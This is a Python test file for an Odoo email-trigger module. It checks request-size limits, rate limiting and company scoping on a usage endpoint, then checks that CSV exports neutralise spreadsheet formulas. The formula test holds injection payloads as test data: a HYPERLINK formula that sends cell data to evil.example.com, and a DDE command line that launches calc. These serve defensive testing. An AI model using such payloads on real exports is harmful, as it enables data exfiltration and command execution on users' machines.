# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
import csv
import http.client
import io
import json
from datetime import date

from odoo.tests import HttpCase, tagged
from odoo.tools import mute_logger

from odoo.addons.natero_mail_trigger.controllers.usage import MAX_BODY_BYTES
from odoo.addons.natero_mail_trigger.models.natero_trigger_send import engine

from .. import compat

USAGE_LOGGER = "odoo.addons.natero_mail_trigger.controllers.usage"


@tagged("post_install", "-at_install")
class TestTriggerHttpSecurity(HttpCase):
    """Issue 10 items 5 and 8 (triggers), as an outsider over HTTP: the usage
    endpoint's size check and rate limit, company-bound resolution, and CSV
    cells that cannot run as formulas."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.company_2 = cls.env["res.company"].create({"name": "Company Two"})
        cls.partner = cls.env["res.partner"].create(
            {
                "name": "Una",
                "email": "una@example.com",
                "company_id": cls.env.company.id,
            }
        )
        ApiKey = cls.env["natero.trigger.api.key"]
        cls.key_record = ApiKey.create({"name": "Product"})
        cls.key = cls.key_record.action_generate_key()["context"]["default_key"]
        cls.key_2_record = ApiKey.create(
            {"name": "Other company's product", "company_id": cls.company_2.id}
        )
        cls.key_2 = cls.key_2_record.action_generate_key()["context"]["default_key"]
        cls.url = "/natero/usage/events"

    def post(self, data, key=None, headers=None, timeout=12):
        all_headers = {"Content-Type": "application/json"}
        if key:
            all_headers["Authorization"] = f"Bearer {key}"
        all_headers.update(headers or {})
        return self.opener.post(
            f"{self.base_url()}{self.url}",
            data=data,
            headers=all_headers,
            timeout=timeout,
        )

    def events(self, *emails):
        return json.dumps(
            {"events": [{"name": "login", "user_email": email} for email in emails]}
        )

    # ------------------------------------------------------------ body size

    @mute_logger(USAGE_LOGGER)
    def test_size_checked_before_the_body_is_read(self):
        # the header announces more than the limit and the body never comes:
        # refused at once, without waiting to read it
        connection = http.client.HTTPConnection(
            "127.0.0.1", int(self.base_url().rsplit(":", 1)[1]), timeout=5
        )
        with compat.test_request_cookie(self) as cookie:
            try:
                connection.putrequest("POST", self.url)
                for name, value in (
                    ("Content-Type", "application/json"),
                    ("Authorization", f"Bearer {self.key}"),
                    ("Content-Length", str(MAX_BODY_BYTES + 1)),
                    *([("Cookie", cookie)] if cookie else []),
                ):
                    connection.putheader(name, value)
                connection.endheaders(b'{"events": [')
                response = connection.getresponse()
                self.assertEqual(response.status, 413)
                self.assertEqual(json.loads(response.read())["error"], "too_large")
            finally:
                connection.close()
        # a real body over the limit
        response = self.post(b" " * (MAX_BODY_BYTES + 1), key=self.key)
        self.assertEqual(response.status_code, 413)
        self.assertEqual(response.json()["error"], "too_large")

    @mute_logger(USAGE_LOGGER)
    def test_chunked_body_refused(self):
        """A chunked body has no length to check before reading it."""

        def chunks():
            yield self.events("una@example.com").encode()

        response = self.post(chunks(), key=self.key)
        self.assertEqual(response.status_code, 411)
        self.assertEqual(response.json()["error"], "length_required")
        self.assertFalse(
            self.env["natero.usage.event"].search(
                [("api_key_id", "=", self.key_record.id)]
            )
        )

    # ----------------------------------------------------------- rate limit

    @mute_logger(USAGE_LOGGER)
    def test_rate_limit_per_key(self):
        self.env["ir.config_parameter"].set_param(
            "natero_mail_trigger.usage_rate_limit", 2
        )
        for __ in range(2):
            self.assertEqual(
                self.post(self.events("una@example.com"), key=self.key).status_code,
                200,
            )
        response = self.post(self.events("una@example.com"), key=self.key)
        self.assertEqual(response.status_code, 429)
        self.assertEqual(response.json()["error"], "rate_limited")
        self.assertGreaterEqual(int(response.headers["Retry-After"]), 1)
        self.assertLessEqual(int(response.headers["Retry-After"]), 60)
        self.assertEqual(
            self.env["natero.usage.event"].search_count(
                [("api_key_id", "=", self.key_record.id)]
            ),
            2,
        )
        # another key has its own budget
        self.assertEqual(
            self.post(self.events("una@example.com"), key=self.key_2).status_code, 200
        )
        # a bad key is not counted against a good one
        response = self.post(self.events("x@example.com"), key="ntk_000000000000_x")
        self.assertEqual(response.status_code, 401)

    @mute_logger(USAGE_LOGGER)
    def test_rate_limit_counts_in_the_database(self):
        """The counter is a row of the database, not memory of one server:
        the requests another Odoo server answered count here too."""
        self.env["ir.config_parameter"].set_param(
            "natero_mail_trigger.usage_rate_limit", 3
        )
        self.assertEqual(
            self.post(self.events("una@example.com"), key=self.key).status_code, 200
        )
        self.env.invalidate_all()
        self.assertEqual(self.key_record.sudo().rate_window_count, 1)
        # two requests answered by another server of the same database
        self.env.cr.execute(
            "UPDATE natero_trigger_api_key SET rate_window_count = 3 WHERE id = %s",
            (self.key_record.id,),
        )
        response = self.post(self.events("una@example.com"), key=self.key)
        self.assertEqual(response.status_code, 429)

    # -------------------------------------------------------------- company

    @mute_logger(USAGE_LOGGER)
    def test_events_of_another_company_do_not_resolve_our_users(self):
        response = self.post(self.events("una@example.com"), key=self.key_2)
        self.assertEqual(response.status_code, 200)
        self.assertEqual(response.json(), {"created": 1, "matched": 0, "unmatched": 1})
        event = self.env["natero.usage.event"].search(
            [("api_key_id", "=", self.key_2_record.id)]
        )
        self.assertEqual(event.company_id, self.company_2)
        self.assertFalse(event.partner_id)
        # the same event with the company's own key resolves
        response = self.post(self.events("una@example.com"), key=self.key)
        self.assertEqual(response.json()["matched"], 1)

    # ------------------------------------------------------------------ CSV

    def test_csv_cells_cannot_run_formulas(self):
        names = [
            '=HYPERLINK("https://evil.example.com/?d="&A1,"Click")',
            "+1+1",
            "-2+3",
            "@SUM(1,2)",
        ]
        # names are trimmed; free text is not
        reasons = ["-exploit", "\t=1+1", "\r=1+1", "@A1"]
        partners = self.env["res.partner"].create(
            [
                {"name": name, "email": f"f{index}@example.com"}
                for index, name in enumerate(names)
            ]
        )
        trigger = self.env["natero.trigger"].create(
            {
                "name": "=cmd|' /C calc'!A0",
                "email_from": "cs@example.com",
                "subject": "Hi",
            }
        )
        engine(self.env["natero.trigger.send"]).create(
            [
                {
                    "trigger_id": trigger.id,
                    "partner_id": partner.id,
                    "email": partner.email,
                    "local_day": date(2025, 1, 6),
                    "state": "failed",
                    "failure_reason": reason,
                }
                for partner, reason in zip(partners, reasons, strict=True)
            ]
        )
        self.authenticate("admin", "admin")
        response = self.url_open(
            f"/natero/trigger/sends.csv?trigger_id={trigger.id}&measure=recipients"
        )
        self.assertEqual(response.status_code, 200)
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        header, rows = rows[0], rows[1:]
        self.assertEqual(len(rows), len(names))
        for row in rows:
            for cell in row:
                self.assertFalse(cell[:1] in ("=", "+", "-", "@", "\t", "\r"), row)
        users = sorted(row[header.index("User")] for row in rows)
        self.assertEqual(users, sorted("'" + name for name in names))
        self.assertEqual(
            {row[header.index("Trigger")] for row in rows}, {"'=cmd|' /C calc'!A0"}
        )
        self.assertEqual(
            sorted(row[header.index("Failure reason")] for row in rows),
            sorted("'" + reason for reason in reasons),
        )
